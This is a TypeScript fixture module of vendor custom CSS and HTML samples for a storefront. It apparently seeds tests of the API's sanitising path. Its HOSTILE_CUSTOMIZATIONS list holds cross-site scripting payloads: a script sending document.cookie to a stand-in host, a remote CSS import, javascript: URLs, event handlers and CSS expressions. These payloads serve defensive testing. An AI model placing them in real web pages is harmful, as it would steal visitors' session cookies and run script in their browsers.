import type { Random } from "./random.ts";

/**
 * Vendor custom CSS/HTML samples. Stored as vendors wrote them; the API sanitises on the way
 * out. The hostile samples exist so the sanitising path always has something to remove.
 */
export const SAFE_CSS = [
  ".store-header { letter-spacing: 0.08em; text-transform: uppercase; }\n.product-card { border-radius: 12px; }",
  ".product-card:hover { transform: translateY(-2px); box-shadow: 0 8px 24px rgba(0,0,0,.12); }",
  "body { font-family: 'Georgia', serif; }\n.about { font-style: italic; max-width: 60ch; }",
  ".banner { background: linear-gradient(90deg, #fde68a, #f9a8d4); padding: 2rem; }",
] as const;

export const SAFE_HTML = [
  '<section class="about"><h2>Studio notes</h2><p>Open studio every first Saturday. <a href="https://example.com/visit">Plan a visit</a>.</p></section>',
  '<div class="banner"><strong>Free shipping</strong> on orders over $75 this month.</div>',
  '<figure><img src="https://images.example.com/studio.jpg" alt="The studio at dusk"><figcaption>Where it all happens</figcaption></figure>',
] as const;

/** Each needs sanitising: script tags, event handlers, javascript: URLs, CSS expressions and remote imports. */
export const HOSTILE_CUSTOMIZATIONS = [
  {
    css: '@import url(http://evil.example/steal.css);\n.store-header { background: url("javascript:alert(1)"); }',
    html: '<p>Welcome!</p><script>fetch("https://evil.example/c?"+document.cookie)</script><img src="x" onerror="alert(document.domain)">',
  },
  {
    css: ".product-card { width: expression(alert('xss')); behavior: url(evil.htc); }",
    html: '<a href="javascript:alert(\'hi\')">Click for a discount</a><iframe src="https://evil.example/frame"></iframe><div onclick="steal()">Sale</div>',
  },
] as const;

export function sampleCustomCss(rand: Random): string {
  return rand.chance(0.45) ? rand.pick(SAFE_CSS) : "";
}

export function sampleCustomHtml(rand: Random): string | null {
  return rand.chance(0.3) ? rand.pick(SAFE_HTML) : null;
}
